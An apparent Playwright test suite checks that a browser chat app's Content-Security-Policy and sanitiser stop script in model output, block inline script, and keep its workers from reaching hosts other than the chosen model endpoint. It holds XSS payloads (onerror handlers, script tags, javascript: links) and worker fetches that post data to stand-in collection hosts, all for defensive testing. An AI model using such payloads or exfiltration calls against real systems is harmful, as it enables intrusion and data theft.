// The page itself: the build's Content-Security-Policy is in force, and what the model (or a
// document) writes is shown as sanitised text whose markup never runs, in the chat and in notes.
// The page's workers run under the same policy (served by the service worker), which names the
// model endpoint the user chose and nothing else.
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page, Worker } from '@playwright/test';
import { contentSecurityPolicy } from '../../app/security-policy/content-security-policy.ts';
import { expect, test } from './test.ts';
import { fakeState, loadScript } from './fake.ts';
import { assistant, openApp, send } from './app.ts';
import { fixture } from '../support/fixtures.ts';
import { E2E_PROXY_URL } from './ports.ts';

const HOSTILE = 'Done. <img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script> [click](javascript:window.__pwned=3) <iframe src="javascript:parent.__pwned=4"></iframe>';

test('the production page carries a strict Content-Security-Policy', async ({ page, request }) => {
  const html = await (await request.get('/')).text();
  const policy = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)"/)?.[1]?.replace(/&#39;/g, "'");
  expect(policy).toBeTruthy();
  const scriptSrc = policy!.split(';').map((part) => part.trim()).find((part) => part.startsWith('script-src'));
  expect(scriptSrc).toBe("script-src 'self' 'wasm-unsafe-eval'");
  expect(policy).toContain("connect-src 'self' http://127.0.0.1:");
  expect(policy).toContain("object-src 'none'");
  // The built page has no inline script of its own.
  expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
  await openApp(page);
});

test('markup in the model\'s words is shown, never run, in the chat and in a notes window', async ({ page }, testInfo) => {
  // The sanitiser parses the markup in an inert document, whose inline handlers Chromium reports
  // as refused by the page's policy: reported, never run (asserted below).
  testInfo.annotations.push({ type: 'csp-violation-expected', description: 'the sanitiser parses hostile markup' });
  await loadScript({
    name: 'hostile markup',
    turns: [
      { reply: { content: [{ type: 'tool_use', name: 'create_window', input: { kind: 'notes', title: 'Report', content: HOSTILE } }] } },
      { reply: { content: [{ type: 'text', text: HOSTILE }] } },
    ],
  });
  await openApp(page);
  await send(page, 'write me a report');
  await expect(assistant(page).last()).toContainText('Done.');
  const notes = page.getByRole('region', { name: 'Notes window: Report' });
  await expect(notes).toContainText('Done.');
  for (const place of [assistant(page).last(), notes]) {
    await expect(place.locator('script, iframe, [onerror]')).toHaveCount(0);
    await expect(place.locator('a[href^="javascript:"]')).toHaveCount(0);
  }
  await expect(page.getByRole('link', { name: 'click' })).toHaveCount(0); // kept as text, without its href
  expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
  expect((await fakeState()).failures).toEqual([]);
});

test('script that gets into the page anyway is refused by the policy', async ({ page }, testInfo) => {
  testInfo.annotations.push({ type: 'csp-violation-expected', description: 'the test injects an inline script' });
  await openApp(page);
  const refused = page.waitForEvent('console', (message) => message.type() === 'error' && message.text().includes('Content Security Policy'));
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.__inline = 1';
    document.head.append(script);
    const handler = document.createElement('img');
    handler.setAttribute('onerror', 'window.__inline = 2');
    handler.src = 'data:,not an image';
    document.body.append(handler);
    await new Promise((done) => setTimeout(done, 100));
    return (window as { __inline?: number }).__inline ?? null;
  });
  expect(ran).toBeNull();
  expect((await refused).text()).toContain("script-src 'self' 'wasm-unsafe-eval'");
});

/** Opens the app, waits for its service worker to take over, and opens it again under it. */
async function openUnderServiceWorker(page: Page): Promise<void> {
  await openApp(page);
  await page.evaluate(async () => {
    await navigator.serviceWorker.ready;
    if (!navigator.serviceWorker.controller) await new Promise((r) => navigator.serviceWorker.addEventListener('controllerchange', r, { once: true }));
  });
  await openApp(page);
}

async function workerAt(page: Page, part: string): Promise<Worker> {
  await expect.poll(() => page.workers().some((worker) => worker.url().includes(part)), { timeout: 60_000 }).toBe(true);
  return page.workers().find((worker) => worker.url().includes(part))!;
}

/** What becomes of a fetch from inside `worker`: sent (any answer), or refused by its policy. */
function tryFetch(worker: Worker, url: string): Promise<{ sent: boolean; refused: string | null }> {
  return worker.evaluate(async (target) => {
    let refused: string | null = null;
    const onViolation = (event: SecurityPolicyViolationEvent) => (refused = `${event.effectiveDirective} ${event.blockedURI}`);
    self.addEventListener('securitypolicyviolation', onViolation);
    const sent = await fetch(target, { method: 'POST', body: 'the stack', mode: 'no-cors' }).then(() => true, () => false);
    await new Promise((done) => setTimeout(done, 200));
    self.removeEventListener('securitypolicyviolation', onViolation);
    return { sent, refused };
  }, url);
}

test('the stack worker, and the workers it starts, send nothing but to the app and its model endpoint', async ({ page, request }, testInfo) => {
  testInfo.annotations.push({ type: 'csp-violation-expected', description: 'the test fetches from a worker to a host the policy refuses' });
  // The file a static host (Cloudflare Pages) reads to send the same policy as a header.
  const headers = await (await request.get('/_headers')).text();
  expect(headers).toMatch(/^\/\*\n {2}Content-Security-Policy: default-src 'self'; script-src 'self' 'wasm-unsafe-eval';.*frame-ancestors 'none'$/m);
  await openUnderServiceWorker(page);
  const served = await page.evaluate(async () => (await fetch(location.href)).headers.get('content-security-policy'));
  expect(served).toContain(`connect-src 'self' ${E2E_PROXY_URL} ${E2E_PROXY_URL.replace('http:', 'ws:')}`);
  expect(served).toContain("frame-ancestors 'none'");

  const stackWorker = await workerAt(page, 'stack-worker');
  expect(await tryFetch(stackWorker, 'http://127.0.0.1:9/collect')).toEqual({ sent: false, refused: expect.stringMatching(/^connect-src http:\/\/127\.0\.0\.1:9/) });
  expect(await tryFetch(stackWorker, 'https://elsewhere.example/collect')).toMatchObject({ sent: false, refused: expect.stringContaining('connect-src') });
  expect(await tryFetch(stackWorker, `${E2E_PROXY_URL}/health`)).toEqual({ sent: true, refused: null });
  // A worker the stack worker starts (here the OCR engine's) is under the same policy.
  await page.getByLabel('Attach files').setInputFiles([{ name: 'plain-1_scan.jpg', mimeType: 'image/jpeg', buffer: fixture('plain-1_scan.jpg') }]);
  const ocrWorker = await workerAt(page, '/ocr/');
  expect(await tryFetch(ocrWorker, 'http://127.0.0.1:9/collect')).toEqual({ sent: false, refused: expect.stringMatching(/^connect-src http:\/\/127\.0\.0\.1:9/) });
});

test('under the policy, a scan is read by OCR and a PDF is read and shown', async ({ page }) => {
  await openUnderServiceWorker(page);
  await page.getByLabel('Attach files').setInputFiles([
    { name: 'plain-1_scan.jpg', mimeType: 'image/jpeg', buffer: fixture('plain-1_scan.jpg') },
    { name: 'plain-1.pdf', mimeType: 'application/pdf', buffer: fixture('plain-1.pdf') },
  ]);
  await expect(page.locator('[data-role=notice]').filter({ hasText: 'Read plain-1.pdf: 1 page of text.' })).toBeVisible({ timeout: 60_000 });
  await expect(page.locator('[data-role=notice]').filter({ hasText: 'Read plain-1_scan.jpg: 1 page of text.' })).toBeVisible({ timeout: 90_000 });
  await expect(page.getByRole('region', { name: 'Document window: plain-1.pdf' }).locator('canvas, img').first()).toBeVisible({ timeout: 30_000 });
});

test('an endpoint the user chooses is added to the policy: the stack opens again and reaches it', async ({ page }, testInfo) => {
  // The stack worker that was running checks the new endpoint once, under its old policy, before
  // the page opens the stack again.
  testInfo.annotations.push({ type: 'csp-violation-expected', description: 'the old stack worker tries the new endpoint once' });
  const fakeUrl = process.env.E2E_FAKE_URL!;
  await loadScript({ name: 'own key under the policy', turns: [{ reply: { content: [{ type: 'text', text: 'Direct hello.' }] } }] });
  await openUnderServiceWorker(page);
  const before = await workerAt(page, 'stack-worker');
  await page.getByRole('button', { name: 'Settings' }).click();
  await page.getByRole('radio', { name: 'Anthropic, with my own key' }).check();
  await page.getByRole('textbox', { name: 'Model endpoint' }).fill(fakeUrl);
  await page.getByLabel('API key').fill('user-key-e2e');
  const reopened = page.waitForEvent('load');
  await page.getByRole('button', { name: 'Save' }).click();
  await reopened;
  await expect(page.getByRole('textbox', { name: 'Message' })).toBeEnabled();
  const after = await workerAt(page, 'stack-worker');
  expect(after).not.toBe(before);
  const served = await page.evaluate(async () => (await fetch(location.href)).headers.get('content-security-policy'));
  expect(served).toContain(`${fakeUrl} ${fakeUrl.replace('http:', 'ws:')}`);
  await send(page, 'hi');
  await expect(assistant(page)).toHaveText('Direct hello.');
  expect((await fakeState()).failures).toEqual([]);
});

/**
 * The computer's emulator under the policy, in a module worker as the app runs it: its wasm
 * compiles ('wasm-unsafe-eval') and its helper worker starts from blob: (without that source it
 * is refused and the machine runs no instruction). Served here from v86's own files, with the
 * BIOS from Debian's seabios: the computer's image is not part of every build.
 */
test('the emulator runs under the policy: wasm, and its helper workers from blob:', async ({ browser }) => {
  const root = `${import.meta.dirname}/../..`;
  const files: Record<string, [string, string]> = {
    '/libv86.mjs': [`${root}/node_modules/v86/build/libv86.mjs`, 'text/javascript'],
    '/v86.wasm': [`${root}/node_modules/v86/build/v86.wasm`, 'application/wasm'],
    '/bios.bin': ['/usr/share/seabios/bios.bin', 'application/octet-stream'],
    '/vgabios.bin': ['/usr/share/seabios/vgabios-isavga.bin', 'application/octet-stream'],
  };
  const worker = `
    const said = [];
    self.addEventListener('securitypolicyviolation', (event) => said.push(event.effectiveDirective + ' ' + event.blockedURI));
    const { V86 } = await import('/libv86.mjs');
    const emulator = new V86({ wasm_path: '/v86.wasm', bios: { url: '/bios.bin' }, vga_bios: { url: '/vgabios.bin' }, autostart: true, memory_size: 32 << 20, disable_keyboard: true, disable_mouse: true, disable_speaker: true });
    await new Promise((started) => emulator.add_listener('emulator-started', started));
    await new Promise((ran) => setTimeout(ran, 2000));
    postMessage({ instructions: emulator.get_instruction_counter(), refused: said });
    emulator.destroy();
  `;
  const policy = contentSecurityPolicy({ header: true });
  const server: Server = createServer((request, response) => {
    const file = files[request.url ?? ''];
    if (file) {
      response.setHeader('content-type', file[1]);
      response.end(readFileSync(file[0]));
      return;
    }
    response.setHeader('content-security-policy', policy);
    if (request.url === '/worker.js') {
      response.setHeader('content-type', 'text/javascript');
      response.end(worker);
      return;
    }
    response.setHeader('content-type', 'text/html');
    response.end('<!doctype html><title>v86</title>');
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  const page = await browser.newPage();
  try {
    await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
    const outcome = await page.evaluate(
      () =>
        new Promise<{ instructions: number; refused: string[] }>((done, failed) => {
          const emulator = new Worker('/worker.js', { type: 'module' });
          emulator.onmessage = (event) => done(event.data);
          emulator.onerror = (event) => failed(new Error(event.message));
        }),
    );
    expect(outcome.refused).toEqual([]);
    expect(outcome.instructions).toBeGreaterThan(100_000);
  } finally {
    await page.close();
    await new Promise((closed) => server.close(closed));
  }
});
